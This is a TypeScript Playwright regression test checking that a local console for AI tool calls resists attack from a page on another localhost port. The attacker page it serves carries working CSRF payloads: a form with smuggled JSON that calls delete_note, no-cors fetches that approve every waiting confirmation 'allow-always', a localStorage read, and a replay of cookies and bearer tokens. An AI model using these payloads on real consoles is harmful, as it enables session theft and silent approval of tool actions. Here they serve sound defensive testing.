/**
 * Issue 19 (high): the console's session could be stolen from another local port. Browsers send
 * cookies to every port of a host, so a page on 127.0.0.1:<other port> the person opened was sent
 * the console's cookie; replayed outside the browser it started calls, read the history and
 * answered a confirmation "always allow". Now the session lives in the console origin's storage
 * and travels as a header, the printed link's token works once, and a question is answered only
 * with the key its page's event stream was given. In a real browser (Chromium), with the person
 * signed in to the console and a confirmation waiting: a page on another port can neither start,
 * read nor approve anything, in the browser or by replaying what the browser sent it.
 * Failed before the fix: the other port's server received the console's cookie, and its replay
 * read the state and approved the waiting confirmation.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeContexts, sharedBrowser } from '../support/browser.js';
import { consoleSignIn, startConsole } from '../support/cliRun.js';
import { consoleEvents } from '../support/consoleEvents.js';
import { ROOT } from '../support/paths.js';

const home = mkdtempSync(join(tmpdir(), 'toolwire-issue19-console-'));
let browser: Browser;
let run: Awaited<ReturnType<typeof startConsole>>;
let origin = '';
/** What the page on the other port was sent by the browser (all its requests' headers). */
const received: IncomingHttpHeaders[] = [];
let foreign: Server;
let foreignOrigin = '';

/** The attacker's page: everything a page of another origin can try against the console. */
const attackerPage = (target: string) => `<!doctype html><title>cute cats</title>
<form id="f" method="POST" enctype="text/plain" action="${target}/api/servers/s1/calls">
<input name='{"tool":"delete_note","arguments":{"id":"csrf-form"},"x":"' value='"}'></form>
<script>
(async () => {
  const results = {};
  const attempt = async (name, run) => {
    try { results[name] = await run(); } catch (e) { results[name] = 'threw: ' + e.message; }
  };
  await attempt('cookie', () => document.cookie);
  await attempt('state', () => fetch('${target}/api/state', { credentials: 'include' }).then((r) => r.status));
  await attempt('stateOpaque', () =>
    fetch('${target}/api/state', { credentials: 'include', mode: 'no-cors' }).then((r) => r.type + ' ' + r.status));
  await attempt('call', () =>
    fetch('${target}/api/servers/s1/calls', {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: { 'content-type': 'text/plain' },
      body: JSON.stringify({ tool: 'delete_note', arguments: { id: 'csrf-fetch' } }),
    }).then((r) => r.type));
  for (let n = 1; n <= 20; n++)
    await fetch('${target}/api/confirmations/q' + n, {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: { 'content-type': 'text/plain' },
      body: JSON.stringify({ decision: 'allow-always' }),
    }).catch(() => {});
  await attempt('storage', () => new Promise((resolve) => {
    const other = window.open('${target}/');
    setTimeout(() => {
      try { resolve(String(other.localStorage.getItem('toolwire-console-session'))); }
      catch (e) { resolve('blocked'); }
      other?.close();
    }, 500);
  }));
  // The browser sends the next request its own headers: the server below keeps them.
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  document.getElementById('f').submit();
})();
</script>`;

beforeAll(async () => {
  browser = await sharedBrowser();
  run = await startConsole(
    ['--no-history', '--', process.execPath, `${ROOT}build/test/fixtures/notesServer.js`],
    { XDG_CONFIG_HOME: home },
  );
  origin = new URL(run.url).origin;
  foreign = createServer((request, response) => {
    received.push(request.headers);
    response.writeHead(200, { 'content-type': 'text/html' }).end(attackerPage(origin));
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
}, 180_000);

afterAll(async () => {
  await closeContexts(browser);
  run?.child.kill('SIGINT');
  foreign?.close();
  rmSync(home, { recursive: true, force: true });
});

/** The person's browser, signed in to the console, with a confirmation of delete_note waiting. */
async function personWithQuestion(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(await run.link());
  await page.getByRole('button', { name: 'delete_note' }).click();
  await page.fill('#field-id', 'precious');
  await page.getByRole('button', { name: 'Call', exact: true }).click();
  await page.getByRole('dialog', { name: 'confirm the call' }).waitFor();
  return { context, page };
}

describe('issue 19: a page on another port cannot use the console', () => {
  it('cannot start, read or approve anything, in the browser or by replaying what it was sent', async () => {
    const { context, page } = await personWithQuestion();
    const evil = await context.newPage();
    const reported = evil.waitForRequest((r) => r.url().endsWith('/report'));
    await evil.goto(foreignOrigin);
    const results = JSON.parse((await reported).postData() ?? '{}') as Record<string, string>;
    // In the browser: nothing to read, nothing sent that the console takes.
    expect(results['cookie']).toBe('');
    expect(results['state']).toMatch(/^threw/); // no CORS: the answer is withheld
    expect(results['storage']).toBe('blocked');

    // Outside the browser: whatever the browser sent the other port is no credential.
    const sent = received.flatMap((h) => [h['cookie'], h['authorization']]).filter(Boolean);
    for (const credential of sent) {
      const replays: Array<Record<string, string>> = [
        { cookie: String(credential) },
        { authorization: `Bearer ${String(credential).split('=').pop() ?? ''}` },
      ];
      for (const replay of replays) {
        const state = await fetch(`${origin}/api/state`, { headers: replay });
        expect(state.status).toBe(401);
        const approve = await fetch(`${origin}/api/confirmations/q1`, {
          method: 'POST',
          headers: { ...replay, origin, 'content-type': 'application/json' },
          body: JSON.stringify({ decision: 'allow-always' }),
        });
        expect(approve.status).toBe(401);
      }
    }

    // The person's question still waits, and nothing else ran: the person denies it.
    const dialog = page.getByRole('dialog', { name: 'confirm the call' });
    expect(await dialog.textContent()).toContain('precious');
    await dialog.getByRole('button', { name: 'Deny' }).click();
    await page.getByText('The user denied the call to tool "delete_note"').waitFor();
    const script = await consoleSignIn(await run.link());
    const state = await (await fetch(`${origin}/api/state`, { headers: script.headers })).text();
    expect(state).not.toContain('csrf');
    expect(state).not.toContain('allow-always');
    await context.close();
  }, 90_000);

  it('spends the link on first use: the same link signs nobody in again', async () => {
    const first = await run.link();
    const person = await browser.newContext();
    const page = await person.newPage();
    await page.goto(first);
    await page.getByRole('button', { name: 'delete_note' }).waitFor();
    // The token leaves the address bar at once (history, screen sharing).
    expect(page.url()).not.toContain('token');
    // Reloading keeps the page signed in (its session is kept in its own origin's storage).
    await page.reload();
    await page.getByRole('button', { name: 'delete_note' }).waitFor();
    // Another browser given the same link is not signed in...
    const other = await browser.newContext();
    const again = await other.newPage();
    await again.goto(first);
    await again.getByText('This page is not signed in.').waitFor();
    // ...nor is a script.
    await expect(consoleSignIn(first)).rejects.toThrow(/401/);
    // A signed-in page gives a link for that other browser, which works once too.
    await page.getByRole('button', { name: 'Link for another browser' }).click();
    const given = await page.getByLabel('sign-in link').inputValue();
    expect(given).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#token=[\w-]{43}$/);
    // Pasted into the signed-out tab (only the fragment changes): it signs in.
    await again.goto(given);
    await again.getByRole('button', { name: 'delete_note' }).waitFor();
    await expect(consoleSignIn(given)).rejects.toThrow(/401/);
    // Not for a page of another origin: the request needs the session.
    const refused = await fetch(`${origin}/api/links`, {
      method: 'POST',
      headers: { origin, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(refused.status).toBe(401);
    await person.close();
    await other.close();
  }, 60_000);

  it('answers a question only with the key of the event stream that showed it', async () => {
    const { context, page } = await personWithQuestion();
    // Signed in, but not the page that showed the question: refused without that page's key.
    const script = await consoleSignIn(await run.link());
    const stream = await consoleEvents(origin, script.headers);
    const asked = (await stream.until((e) => e['type'] === 'state')) as {
      waiting: Array<{ id: string; key: string }>;
    };
    const waiting = asked.waiting[0]!;
    const answer = (body: Record<string, unknown>) =>
      fetch(`${origin}/api/confirmations/${waiting.id}`, {
        method: 'POST',
        headers: { ...script.headers, 'content-type': 'application/json' },
        body: JSON.stringify({ decision: 'allow-always', ...body }),
      });
    expect((await answer({})).status).toBe(403);
    expect((await answer({ stream: 'made-up', key: waiting.key })).status).toBe(403);
    expect((await answer({ stream: stream.id, key: 'made-up' })).status).toBe(403);
    // A form cannot post JSON, and a request without the console's Origin changes nothing.
    const form = await fetch(`${origin}/api/confirmations/${waiting.id}`, {
      method: 'POST',
      headers: { ...script.headers, 'content-type': 'text/plain' },
      body: JSON.stringify({ decision: 'deny', stream: stream.id, key: waiting.key }),
    });
    expect(form.status).toBe(415);
    const { origin: _origin, ...withoutOrigin } = script.headers;
    const noOrigin = await fetch(`${origin}/api/servers/s1/calls`, {
      method: 'POST',
      headers: { ...withoutOrigin, 'content-type': 'application/json' },
      body: JSON.stringify({ tool: 'delete_note', arguments: { id: 'x' } }),
    });
    expect(noOrigin.status).toBe(403);
    expect(await page.getByRole('dialog', { name: 'confirm the call' }).count()).toBe(1);
    // With the key its own stream was given, the answer is taken.
    expect((await answer({ decision: 'deny', stream: stream.id, key: waiting.key })).status).toBe(
      200,
    );
    await page.getByText('The user denied the call to tool "delete_note"').waitFor();
    stream.close();
    await context.close();
  }, 60_000);
});
